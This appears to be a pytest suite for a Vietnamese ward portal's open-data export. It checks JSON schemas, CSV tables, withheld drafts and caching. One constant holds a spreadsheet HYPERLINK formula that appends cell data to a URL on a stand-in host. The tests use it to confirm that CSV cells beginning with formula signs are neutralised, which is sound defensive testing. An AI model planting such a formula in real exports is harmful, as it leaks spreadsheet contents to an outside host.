"""Open data: every kind as JSON that keeps its schema and as a table that a spreadsheet opens.

Counts are taken from the files of the ward, not from the domain.
"""

import csv
import json
import re
from collections.abc import Iterator, Mapping
from datetime import date, timedelta
from functools import cache
from io import StringIO
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import built
import pytest
import samples
import ward
import yaml
from jsonschema import Draft202012Validator, FormatChecker
from outline import Outline

from gandan import sections, tables
from gandan.assemble import assemble
from gandan.cache import Store
from gandan.opendata import files
from gandan.opendata.kinds import DATASETS
from gandan.relate.portal import Portal

ROOT = "https://benmau.minhhoa.example/"
TODAY = date.fromisoformat(built.TODAY)
KINDS = {
    "news", "notice", "consultation", "disclosure", "question", "supervision", "decision", "exemplar",
    "event", "directive", "issuer", "plan", "topic", "group",
}  # fmt: skip
FORMULA = "=HYPERLINK(\"http://x.example/?\"&A1;'bấm')"

every_kind = pytest.mark.parametrize("kind", sorted(KINDS))


def given(root: Path, today: date = TODAY) -> dict[str, bytes]:
    """The files of open data of the ward at `root`, by name."""
    portal = assemble(root, today).portal
    assert portal
    return {
        address.removeprefix("du-lieu/"): data
        for address, data in built.contents(files.of(portal, today, ROOT)).items()
    }


@cache
def demo() -> Mapping[str, bytes]:
    return given(built.ROOT)


@pytest.fixture(scope="module")
def small(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The small ward with records of every kind and state."""
    return ward.write(tmp_path_factory.mktemp("small"), samples.FILES)


def items(found: Mapping[str, bytes], kind: str) -> list[dict[str, Any]]:
    return list(json.loads(found[f"{kind}.json"])["items"])


def table(found: Mapping[str, bytes], kind: str) -> list[dict[str, str]]:
    return list(csv.DictReader(StringIO(found[f"{kind}.csv"].decode("utf-8-sig"), newline="")))


def named(found: Mapping[str, bytes], kind: str, title: str) -> dict[str, Any]:
    return next(one for one in items(found, kind) if one["title"] == title)


def keeps_its_schema(found: Mapping[str, bytes], kind: str) -> None:
    schema = json.loads(found[f"{kind}.schema.json"])
    Draft202012Validator.check_schema(schema)
    Draft202012Validator(schema, format_checker=FormatChecker()).validate(json.loads(found[f"{kind}.json"]))


def test_every_kind_is_given_as_json_as_a_table_and_with_a_schema() -> None:
    forms = ("json", "csv", "schema.json")
    assert demo().keys() == {f"{kind}.{form}" for kind in KINDS for form in forms}
    assert {one.kind for one in sections.SECTIONS} <= KINDS


@every_kind
def test_the_json_keeps_its_schema(kind: str, small: Path) -> None:
    keeps_its_schema(demo(), kind)
    keeps_its_schema(given(small, ward.TODAY), kind)


@every_kind
def test_a_schema_refuses_what_is_not_told(kind: str) -> None:
    schema = json.loads(demo()[f"{kind}.schema.json"])
    told = json.loads(demo()[f"{kind}.json"])
    told["items"][0]["khac"] = "?"
    assert not Draft202012Validator(schema).is_valid(told)


@every_kind
def test_a_file_tells_its_schema_its_ward_its_day_and_its_licence(kind: str) -> None:
    told = json.loads(demo()[f"{kind}.json"])
    assert told["schema"] == f"{ROOT}du-lieu/{kind}.schema.json"
    assert told["schema"] == json.loads(demo()[f"{kind}.schema.json"])["$id"]
    assert (told["ward"], told["generated"]) == ("Phường Bến Mẫu", built.TODAY)
    assert told["licence"].startswith("Creative Commons")


@pytest.mark.parametrize("section", sections.SECTIONS, ids=lambda one: one.kind)
def test_every_item_that_is_published_is_there_once(section: sections.Section) -> None:
    written = [
        path
        for path in (built.ROOT / "docs" / section.folder).glob("[0-9]*/*.md")
        if not re.search(r"^draft: true$", path.read_text("utf-8"), re.M)
    ]
    found = [one["url"] for one in items(demo(), section.kind)]
    assert len(found) == len(set(found)) == len(written) > 0


@pytest.mark.parametrize(
    ("kind", "written"),
    [
        ("directive", len(list((built.ROOT / "data/van-ban").glob("*.yml")))),
        ("event", sum(len(yaml.safe_load(one.read_text("utf-8"))) for one in built.ROOT.glob("data/lich/*"))),
        ("topic", len(yaml.safe_load((built.ROOT / "data/chu-de.yml").read_text("utf-8")))),
        ("group", len(yaml.safe_load((built.ROOT / "data/to-dan-pho.yml").read_text("utf-8")))),
        ("issuer", len(yaml.safe_load((built.ROOT / "data/co-quan.yml").read_text("utf-8")))),
        ("plan", len(yaml.safe_load((built.ROOT / "data/ke-hoach-cong-khai.yml").read_text("utf-8")))),
    ],
)
def test_every_record_of_the_lists_is_there(kind: str, written: int) -> None:
    assert len(items(demo(), kind)) == written


@every_kind
def test_the_table_tells_what_the_json_tells(kind: str) -> None:
    for row, one in zip(table(demo(), kind), items(demo(), kind), strict=True):
        for name, cell in row.items():
            value: Any = one
            for part in name.split("."):
                value = value.get(part, {})
            if isinstance(value, list) and all(isinstance(each, str) for each in value):
                value = "; ".join(value)
            if not isinstance(value, list | dict):
                assert cell.removeprefix("'") == str(value)
            assert bool(cell) == bool(value) or value == 0


@every_kind
def test_a_table_opens_in_a_spreadsheet(kind: str) -> None:
    text = demo()[f"{kind}.csv"].decode("utf-8")
    assert text.startswith(tables.BOM) and text.endswith("\r\n")
    head, *rows = csv.reader(StringIO(text, newline=""))
    assert all(len(row) == len(head) for row in rows) and len(head) == len(set(head))


@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
def test_no_cell_of_a_table_is_run_and_the_json_keeps_the_words(start: str, tmp_path: Path) -> None:
    words = start + FORMULA[1:]
    text = ward.FESTIVAL.replace('"Ngày hội của tổ 1: trăm người gói bánh"', json.dumps(words))
    found = given(ward.write(tmp_path, {ward.FESTIVAL_FILE: text}), ward.TODAY)
    assert items(found, "news")[0]["title"] == words
    assert table(found, "news")[0]["title"] == f"'{words}"


@pytest.mark.parametrize("start", ["", " ", "\u00a0", "\n", "\t "])
def test_a_formula_is_held_back_whatever_blanks_stand_before_it_and_words_stay(start: str) -> None:
    for sign in filter(str.strip, tables.FORMULA):
        assert not sign.isalnum()  # so words that begin with a letter are none
        assert tables.cell(f"{start}{sign}1") == f"'{start}{sign}1"
    for words in ("Đường 3", "3-2", "“=”", "", None, 0):
        assert tables.cell(words) == ("" if words is None else str(words))


def test_a_list_of_records_stands_in_one_cell_with_its_names(small: Path) -> None:
    cells = {row["title"]: row["posted"] for row in table(given(small, ward.TODAY), "disclosure")}
    assert cells["Ngân sách quý III"] == (
        "form: a, place: Trụ sở, from: 2026-10-25, until: 2026-11-24, by: Văn phòng"
    )


def test_what_is_not_known_is_left_out() -> None:
    def empty(value: Any) -> bool:
        inner = value.values() if isinstance(value, dict) else value if isinstance(value, list) else ()
        return value in (None, "", [], {}) or any(map(empty, inner))

    assert not [(kind, one) for kind in KINDS for one in items(demo(), kind) if empty(one)]


def test_drafts_are_not_given_away(small: Path) -> None:
    text = ward.FESTIVAL.replace("author:", "draft: true\nauthor:")
    (small / ward.FESTIVAL_FILE).write_text(text, "utf-8")
    found = given(small, ward.TODAY)
    (small / ward.FESTIVAL_FILE).write_text(ward.FESTIVAL, "utf-8")
    assert not [one for one in items(found, "news") if "gói bánh" in one["title"]]
    assert "gói bánh" not in "".join(data.decode("utf-8") for data in found.values())


def test_an_outcome_is_not_told_before_its_day(small: Path) -> None:
    before = named(given(small, ward.TODAY), "consultation", "Kế hoạch năm 2027")
    assert "outcome" not in before and "response" not in before
    after = named(given(small, date(2026, 11, 24)), "consultation", "Kế hoạch năm 2027")
    assert after["outcome"]["decision"] == "Điều chưa ai được biết."
    assert after["response"] and after["state"]["id"] == "da-co-ket-qua"


@pytest.mark.parametrize(
    ("kind", "title", "field", "day"),
    [
        ("consultation", "Giờ lên hàng quanh chợ", "feedback", date(2026, 11, 18)),
        ("question", "Thuê trọ có được bỏ phiếu?", "answered", date(2026, 10, 30)),
        ("supervision", "Bảng thu chi hẻm 27", "answer", date(2026, 10, 10)),
        ("decision", "Quy ước tổ 1", "recognition", date(2026, 11, 6)),
        ("decision", "Quy ước tổ 1", "sent", date(2026, 11, 3)),
        ("exemplar", "Giữ kênh Ví Dụ", "honoured", date(2026, 11, 10)),
    ],
)
def test_what_belongs_to_a_day_is_told_from_that_day_on(
    kind: str, title: str, field: str, day: date, small: Path
) -> None:
    assert field in named(given(small, day), kind, title)
    assert field not in named(given(small, day - timedelta(days=1)), kind, title)


def test_of_a_question_the_days_are_told_and_not_who_asked() -> None:
    own = table(demo(), "question")[0].keys() - table(demo(), "news")[0].keys()
    assert own == {"asked", "due", "answered"}


def test_relations_of_a_document_are_told_at_both_ends() -> None:
    told = {one["id"]: one.get("relations", []) for one in items(demo(), "directive")}
    ends = [one["kind"] for one in told["34-2007-pl-ubtvqh11"] if one["target"] == "10-2022-qh15"]
    others = [one["kind"] for one in told["10-2022-qh15"] if one["target"] == "34-2007-pl-ubtvqh11"]
    assert (ends, others) == (["repealed_by"], ["repeals"])


def test_every_address_in_the_data_leads_to_something() -> None:
    told = [one for kind in KINDS for one in items(demo(), kind)]
    addresses = [one[name] for one in told for name in ("url", "image") if name in one]
    addresses += [each["file"] for one in told for each in one.get("attachments", [])]
    assert any(address.endswith(".pdf") for address in addresses)
    for address in addresses:
        file = built.site() / urlsplit(address.removeprefix(ROOT)).path
        assert address.startswith(ROOT) and (file.is_file() or (file / "index.html").is_file()), address


@pytest.mark.parametrize(
    ("field", "kind", "code"),
    [("topics", "topic", "slug"), ("groups", "group", "slug"), ("directives", "directive", "id")],
)
def test_codes_in_the_data_are_found_in_the_data(field: str, kind: str, code: str) -> None:
    told = {each for name in KINDS for one in items(demo(), name) for each in one.get(field, [])}
    assert told and told <= {one[code] for one in items(demo(), kind)}


def test_the_same_ward_on_the_same_day_gives_the_same_bytes(tmp_path: Path) -> None:
    one = given(ward.write(tmp_path / "a", samples.FILES), ward.TODAY)
    assert one == given(ward.write(tmp_path / "b", samples.FILES), ward.TODAY)


def test_an_empty_ward_gives_whole_files_without_rows(tmp_path: Path) -> None:
    none = dict.fromkeys([ward.FESTIVAL_FILE, ward.DIALOGUE_FILE])
    found = given(ward.write(tmp_path, none), ward.TODAY)
    keeps_its_schema(found, "news")
    assert items(found, "news") == [] and table(found, "news") == []
    assert "licence" not in json.loads(found["news.json"])


# ------------------------------------------------------------------------------------------- the page


def page() -> Outline:
    return Outline.of((built.site() / "du-lieu/index.html").read_text("utf-8"))


def test_the_page_names_every_file_with_its_count() -> None:
    links = {one["href"] for one in page().all("a")}
    assert {f"{kind}.{form}" for kind in KINDS for form in ("json", "csv", "schema.json")} <= links
    counts = [one.text for one in page().all("span") if one["class"] == "count"]
    assert counts == [f"{len(items(demo(), one.kind))} mục" for one in DATASETS]


def test_the_page_explains_every_column() -> None:
    told = {one.text for one in page().all("code")}
    heads = {name for kind in KINDS for name in table(demo(), kind)[0]}
    assert heads <= told


def test_the_page_is_reached_from_every_page() -> None:
    for address in ("", "gioi-thieu/", "tin-tuc/2026/ngay-hoi/"):
        html = (built.site() / address / "index.html").read_text("utf-8")
        assert re.search(r'href="(?:\.\./)*(?:\./)?du-lieu/"', html), address


def test_rows_that_are_kept_give_the_same_files(small: Path, tmp_path: Path) -> None:
    later = date(2027, 3, 1)
    for today in (TODAY, later, TODAY):
        portal = assemble(small, today).portal
        assert portal
        for ward_ in (portal, portal._replace(articles=portal.articles[1:], documents={})):
            store = Store(tmp_path / ".cache")
            kept = built.contents(files.of(ward_, today, ROOT, store))
            assert kept == built.contents(files.of(ward_, today, ROOT)) and store.said == []


def others(portal: Portal) -> Iterator[Portal]:
    """The same portal with one thing that few rows tell said otherwise."""
    identity, document = next((name, one) for name, one in portal.documents.items() if one.ties)
    titled = document.directive.model_copy(update={"title": "Tên khác"})
    for changed in ({"superseded": TODAY}, {"ties": ()}, {"directive": titled}):
        yield portal._replace(documents={**portal.documents, identity: document._replace(**changed)})
    first, *rest = portal.appointments
    event = first.event.model_copy(update={"title": "Tên khác"})
    yield portal._replace(appointments=(first._replace(event=event), *rest))
    code, issuer = next(iter(portal.issuers.items()))
    yield portal._replace(issuers={**portal.issuers, code: issuer.model_copy(update={"name": "Tên khác"})})
    yield portal._replace(plan=portal.plan[1:])
    yield portal._replace(topics=portal.topics[1:])
    yield portal._replace(groups=portal.groups[::-1])


def test_few_rows_are_known_by_all_that_they_tell(tmp_path: Path) -> None:
    portal = assemble(built.ROOT, TODAY).portal
    assert portal
    for one in (portal, *others(portal)):
        kept = built.contents(files.of(one, TODAY, ROOT, Store(tmp_path)))
        assert kept == built.contents(files.of(one, TODAY, ROOT))
        assert (one is portal) == (kept == built.contents(files.of(portal, TODAY, ROOT)))


def test_rows_that_another_pydantic_told_are_not_believed(
    small: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    portal = assemble(small, TODAY).portal
    assert portal
    for how in ("2.0", "3.0"):
        monkeypatch.setattr(files, "version", lambda _, how=how: how)
        store = Store(tmp_path)
        built.contents(files.of(portal, TODAY, ROOT, store))
        assert bool(store.said) == (how == "3.0")


def test_a_file_in_which_nothing_changed_has_the_key_it_had(small: Path) -> None:
    portal = assemble(small, TODAY).portal
    assert portal
    keys = {one.address: one.key for one in files.of(portal, TODAY, ROOT)}
    assert {one.address: one.key for one in files.of(portal, TODAY, ROOT)} == keys
    renamed = portal._replace(topics=portal.topics[1:], ward=portal.ward.model_copy(update={"name": "Khác"}))
    told = {one.address: one for one in files.of(renamed, TODAY, ROOT)}
    before = built.contents(files.of(portal, TODAY, ROOT))
    for address, one in told.items():
        assert (one.key == keys[address]) == (bytes(one.data()) == before[address]), address
